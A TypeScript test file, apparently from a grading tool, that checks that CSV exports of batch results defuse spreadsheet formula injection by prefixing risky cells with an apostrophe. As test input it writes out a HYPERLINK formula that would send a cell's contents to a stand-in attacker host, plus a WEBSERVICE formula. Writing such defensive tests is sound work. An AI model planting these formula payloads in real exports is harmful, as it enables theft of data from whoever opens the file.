// CSV exports of batch results (`zinc batch results --format csv`, `GET /api/batches/:id/results`
// with Accept: text/csv) neutralise cells a spreadsheet would run as formulas: a text cell that
// starts with =, +, -, @, a tab or a carriage return gets a leading ', and stays quoted as RFC
// 4180 asks; numbers (a negative score) are written as they are.
import { describe, expect, it } from 'vitest';
import { csvField, toCsv, type ResultRow } from '../src/core/batch-results.js';

const row = (student: string, overrides: Partial<ResultRow> = {}): ResultRow => ({
  student,
  delivery: 'dlv_1',
  submittedAt: '2026-10-01T00:00:00.000Z',
  score: 100,
  maxScore: 100,
  verdict: 'PASSED',
  verdicts: { PASSED: 2 },
  reportKey: 'reports/batch-1/dlv_1.json',
  ...overrides,
});

describe('batch results as CSV', () => {
  it('neutralises a student ID that starts with = (a formula in a spreadsheet)', () => {
    const csv = toCsv([row('=HYPERLINK("http://evil.example/?"&A1,"click")')]);
    const line = csv.split('\n')[1]!;
    expect(line).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",dlv_1,2026-10-01T00:00:00.000Z,100,100,PASSED:2,reports/batch-1/dlv_1.json`,
    );
  });

  it('prefixes every text cell starting with = + - @ tab or CR, and nothing else', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('s1')).toBe('s1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(-5)).toBe('-5'); // a number, not a formula
  });

  it('neutralises a verdict summary or report key that would start a formula', () => {
    const csv = toCsv([
      row('s1', { verdicts: { '=WEBSERVICE("x")': 1 }, reportKey: '@x', score: -5 }),
    ]);
    expect(csv.split('\n')[1]).toBe(
      `s1,dlv_1,2026-10-01T00:00:00.000Z,-5,100,"'=WEBSERVICE(""x""):1",'@x`,
    );
  });
});
